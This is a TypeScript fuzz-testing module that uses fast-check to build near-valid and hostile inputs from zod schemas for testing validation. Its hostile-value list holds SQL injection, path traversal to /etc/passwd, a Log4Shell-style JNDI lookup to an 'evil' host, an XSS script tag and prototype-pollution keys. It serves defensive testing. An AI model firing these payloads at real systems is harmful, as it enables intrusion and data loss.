import fc from 'fast-check';
import { z } from 'zod';

const hostileText = fc.oneof(
  fc.constantFrom(
    '',
    '\u0000',
    'a\u0000b',
    '\ud800',
    '\udfff tail',
    "'; drop table users; --",
    '../../../etc/passwd',
    '%00%ff',
    ['$', '{jndi:ldap://evil}'].join(''),
    '<script>alert(1)</script>',
    '__proto__',
    'constructor',
    '9'.repeat(400),
    'x'.repeat(20_000),
    '\u202eright to left',
    '2026-02-30',
    '9999-99-99T99:99:99Z',
    '00000000-0000-0000-0000-000000000000',
  ),
  fc.string({ unit: 'binary' }),
);

const hostileNumber = fc.oneof(
  fc.constantFrom(-0, -1, 0.1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1e21, 1e308, -1e308, 5e-324),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Values that no field asks for. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  hostileNumber,
  fc.constantFrom(null, true, [], {}, [[[[[]]]]], { __proto__: null, toString: 1 }),
  fc.jsonValue(),
);

type JsonSchema = {
  type?: string;
  const?: unknown;
  enum?: unknown[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  $ref?: string;
  $defs?: Record<string, JsonSchema>;
  format?: string;
  pattern?: string;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
  items?: JsonSchema;
  properties?: Record<string, JsonSchema>;
};

/** Input that a schema nearly or fully accepts, so that it reaches what lies behind validation, mixed with what no one would send. */
export function hostileInput(schema: z.ZodType): fc.Arbitrary<unknown> {
  const json = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  return fieldOf(json, json.$defs ?? {}, 0);
}

function fieldOf(schema: JsonSchema, defs: Record<string, JsonSchema>, depth: number): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 8, arbitrary: plausible(schema, defs, depth) },
    { weight: 1, arbitrary: hostileValue },
  );
}

function plausible(
  schema: JsonSchema,
  defs: Record<string, JsonSchema>,
  depth: number,
): fc.Arbitrary<unknown> {
  if (schema.$ref) return plausible(defs[schema.$ref.replace('#/$defs/', '')] ?? {}, defs, depth);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fc.oneof(...choices.map((choice) => plausible(choice, defs, depth)));
  const [part] = schema.allOf ?? [];
  if (part) return plausible({ ...schema, ...part, allOf: [] }, defs, depth);
  switch (schema.type) {
    case 'string':
      return text(schema);
    case 'integer':
      return fc.integer({
        min: Math.max(schema.minimum ?? 0, -(2 ** 31)),
        max: Math.min(schema.maximum ?? 1000, 2 ** 31),
      });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(fieldOf(schema.items ?? {}, defs, depth + 1), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 3, (schema.minItems ?? 0) + 3),
      });
    case 'object':
      return depth > 6
        ? fc.constant({})
        : fc.record(
            Object.fromEntries(
              Object.entries(schema.properties ?? {}).map(([name, property]) => [
                name,
                fieldOf(property, defs, depth + 1),
              ]),
            ),
            { requiredKeys: [] },
          );
    default:
      return hostileValue;
  }
}

function text({ format, pattern, minLength = 0, maxLength = 60 }: JsonSchema): fc.Arbitrary<string> {
  if (format === 'uuid' || pattern?.includes('0-9a-f')) return fc.uuid({ version: 7 });
  if (format === 'date')
    return fc
      .date({ min: new Date('1900-01-01'), max: new Date('2200-12-31'), noInvalidDate: true })
      .map((date) => date.toISOString().slice(0, 10));
  if (format === 'date-time')
    return fc
      .date({ min: new Date('0001-01-01'), max: new Date('9999-12-31'), noInvalidDate: true })
      .map((date) => date.toISOString());
  if (format === 'email') return fc.emailAddress();
  if (format === 'uri') return fc.webUrl();
  return fc.string({ minLength, maxLength: Math.min(maxLength, minLength + 60), unit: 'grapheme' });
}
